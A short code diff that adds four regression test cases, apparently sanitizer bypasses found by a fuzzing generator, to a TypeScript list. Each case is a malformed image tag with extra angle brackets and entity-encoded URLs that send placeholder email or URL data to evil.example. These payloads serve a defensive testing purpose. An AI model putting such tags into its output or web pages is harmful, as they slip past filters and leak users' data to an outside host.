@@ -1,4 +1,9 @@
 import type { Form } from './forms.ts'
 
 /** Answers that were found by the generator and carried a value away, as short as they did. They stay. */
-export const CASES: readonly Form[] = []
+export const CASES: readonly Form[] = [
+  { id: 'angle-in-tag.1', text: '<img < src=URL_1.evil.example>' },
+  { id: 'angle-in-tag.2', text: '<img < src=https&colon;&sol;&sol;evil.example/?EMAIL_1>' },
+  { id: 'angle-in-tag.3', text: '<img << src=&#47&#47;URL_1evil>' },
+  { id: 'angle-in-tag.4', text: '<img </ src=https&colon;&sol;&sol;evil.example/?EMAIL_1>' },
+]
